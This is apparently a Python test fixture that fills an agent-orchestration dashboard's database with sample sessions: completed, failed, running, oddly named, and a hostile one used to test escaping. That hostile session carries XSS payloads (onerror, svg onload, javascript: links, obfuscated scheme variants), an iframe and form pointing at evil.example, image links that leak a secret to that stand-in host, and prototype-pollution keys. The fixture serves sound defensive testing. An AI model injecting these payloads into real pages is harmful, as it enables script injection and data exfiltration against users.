"""What the page has to show: a workflow of known times, one that failed, one that runs, a hostile one, and many small ones."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any, get_args

from tac_orchestrator import Agent, Database, Prompt
from tac_orchestrator.models import AgentType

BEGUN = datetime.now(UTC).replace(microsecond=250_000) - timedelta(hours=2)
SONNET = "claude-sonnet-4-5"

GOOD = "issue-42"
FAILED = "issue-43"
RUNNING = "issue-44"
STRANGE = "feature/a b?c=d#é%2F"
HOSTILE = '<img src=x onerror="document.title=1">'

SMALL_COUNT = 120
TAIL_COUNT = 600

MARKDOWN = """# Plan

Read *first*, then **write**.

| step | file |
| ---- | ---- |
| 1    | `a.py` |

```python
print("done")
```

[The manual](https://manual.example/page)
"""

ATTACKS = """# Hostile
<img src=x onerror="document.title='taken'"><script>document.title='taken'</script>
<style>body { display: none }</style><iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/form"><input name="token" autofocus></form>
<svg onload="document.title='taken'"><a xlink:href="javascript:document.title='taken'">x</a></svg>

[click](javascript:document.title='taken') [also](JaVaScRiPt:document.title='taken') [data](data:text/html,<script>1</script>)
[tab](java&#09;script:document.title='taken') <javascript:document.title='taken'>

![stolen](http://evil.example/leak?secret=1) ![ref][leak]

[leak]: http://evil.example/leak?secret=2
[out](http://evil.example/out "hover")
"""


@dataclass
class Recording:
    """One session, with times in seconds after its beginning."""

    db: Database
    session_id: str
    begun: datetime = BEGUN
    names: dict[str, str] = field(default_factory=dict)

    async def agent(self, name: str, start: float, end: float | None, parent: Agent | None = None, **columns: Any) -> Agent:
        kind = await self.db.orchestrator_agents.register(name, agent_type=type_of(name))
        return await self.db.agents.create(
            kind.id,
            self.session_id,
            parent_agent_id=parent.id if parent else None,
            started_at=self.at(start),
            completed_at=None if end is None else self.at(end),
            status=columns.pop("status", "executing" if end is None else "completed"),
            **columns,
        )

    async def prompt(self, agent: Agent, start: float, end: float, text: str, response: str | None, **columns: Any) -> Prompt:
        given = {"status": "completed", "model_used": SONNET, "latency_ms": round((end - start) * 1000), **columns}
        times = {"created_at": self.at(start), "completed_at": self.at(end)}
        return await self.db.prompts.create(agent.id, "adw", text, response_text=response, **times, **given)

    async def log(self, agent: Agent, at: float, log_type: Any, message: str, **columns: Any) -> None:
        await self.db.agent_logs.create(agent.id, log_type, message, created_at=self.at(at), **columns)

    def at(self, seconds: float) -> datetime:
        return self.begun + timedelta(seconds=seconds)


def type_of(name: str) -> AgentType:
    return next((kind for kind in get_args(AgentType) if kind in name), "builder")


async def record_all(db: Database) -> None:
    await record_small_ones(db)
    await record_good(Recording(db, GOOD))
    await record_failed(Recording(db, FAILED, BEGUN + timedelta(minutes=10)))
    await record_running(Recording(db, RUNNING, BEGUN + timedelta(minutes=20)))
    await record_strange(Recording(db, STRANGE, BEGUN + timedelta(minutes=30)))
    await record_hostile(Recording(db, HOSTILE, BEGUN + timedelta(minutes=40)))
    await db.system_logs.create("backup", "backup was written", details={"path": "backups/1.db"})
    await db.system_logs.create("api", "<b>bold</b> news", log_level="WARNING")


async def record_good(session: Recording) -> None:
    """A builder and another one work side by side; the longer one has agents below it, four deep. A reviewer follows both."""
    planner = await session.agent("sdlc_planner", 0, 100, context={"issue": 42})
    long = await session.agent("long builder", 10, 60, planner)
    await session.agent("short builder", 10, 40, planner)
    researcher = await session.agent("researcher", 15, 30, long)
    summarizer = await session.agent("summarizer", 20, 25, researcher)
    await session.agent("reader", 21, 24, summarizer)
    reviewer = await session.agent("reviewer", 62, 95, planner)
    await session.prompt(
        planner,
        1,
        6,
        "Plan it.\n\nFirst.",
        MARKDOWN,
        prompt_name="plan",
        tokens_input=10_000,
        tokens_output=400,
        tokens_cache_read=6_000,
        tokens_cache_write=2_000,
    )
    second = await session.prompt(planner, 7, 9, "Check it.", "It is good.", tokens_input=1000, tokens_output=100)
    for name, at in (("Read", 8.1), ("Bash", 8.4)):
        details = {"prompt_id": second.id, "arguments": {"path": "a.py"}, "result": "two lines"}
        await session.log(planner, at, "tool_call", f"{name} a.py", details=details)
    await session.prompt(planner, 96, 99, "Close it.", None, model_used="a-model-of-no-price", tokens_input=5, tokens_output=5)
    await session.prompt(long, 12, 50, "Build it.", "Built.", tokens_input=2000, tokens_output=900)
    await session.log(reviewer, 90, "milestone", "review passed", details={"files": ["a.py"]})


async def record_failed(session: Recording) -> None:
    planner = await session.agent("sdlc_planner", 0, 30, status="failed", error_message="the tester failed")
    tester = await session.agent("tester", 5, 20, planner, status="failed", error_message="exit code 1")
    await session.log(
        tester, 19, "tool_call", "pytest -q", log_level="ERROR", details={"output": "E   assert 1 == 2\n1 failed in 0.1s"}
    )
    await session.prompt(planner, 1, 4, "Plan it.", None, status="failed", error_message="overloaded_error: try later")
    for number in range(TAIL_COUNT):
        await session.log(tester, 6 + number / 1000, "milestone", f"step {number}")


async def record_running(session: Recording) -> None:
    planner = await session.agent("sdlc_planner", 0, None)
    await session.agent("tester", 5, None, planner, status="reviewing")
    await session.agent("long builder", 5, 20, planner, status="cancelled", error_message="not needed any more")
    await session.prompt(planner, 1, 4, "Plan it.", "Yes.", cost_usd="1.25", cost_source="reported")


async def record_strange(session: Recording) -> None:
    """A name that has to be escaped wherever it stands, and a chain that is deeper than any screen is wide."""
    agent = await session.agent("builder", 0, 10)
    for depth in range(1, 30):
        agent = await session.agent(f"builder {depth}", depth / 10, 9, agent)


async def record_hostile(session: Recording) -> None:
    agent = await session.agent(
        f"{HOSTILE} builder", 0, 10, status="failed", error_message=ATTACKS, context={"__proto__": ATTACKS}
    )
    details = {"__proto__": {"isTaken": True}, "constructor": {"prototype": {"isTaken": True}}, ATTACKS: ATTACKS}
    prompt = await session.prompt(
        agent, 1, 2, ATTACKS, ATTACKS, prompt_name=HOSTILE, model_used=HOSTILE, details=details, error_message=ATTACKS
    )
    await session.log(agent, 3, "tool_call", ATTACKS, log_level="ERROR", details={"prompt_id": prompt.id, "output": ATTACKS})


async def record_small_ones(db: Database) -> None:
    """More than one page of a list."""
    for number in range(SMALL_COUNT):
        session = Recording(db, f"small-{number:03}", BEGUN - timedelta(days=1, minutes=number))
        await session.agent("fixer", 0, 1)
